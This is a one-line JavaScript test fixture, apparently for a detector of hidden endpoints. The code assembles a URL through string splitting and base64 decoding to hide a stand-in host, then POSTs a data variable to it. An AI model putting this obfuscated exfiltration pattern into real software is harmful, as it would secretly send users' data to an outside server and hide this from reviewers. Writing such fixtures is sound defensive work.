// expect: hidden-endpoint
const u="h"+"t"+"tps://"+atob("Yy5leGFtcGxlLm5ldA==")+"/in";fetch(u,{method:"POST",body:d});
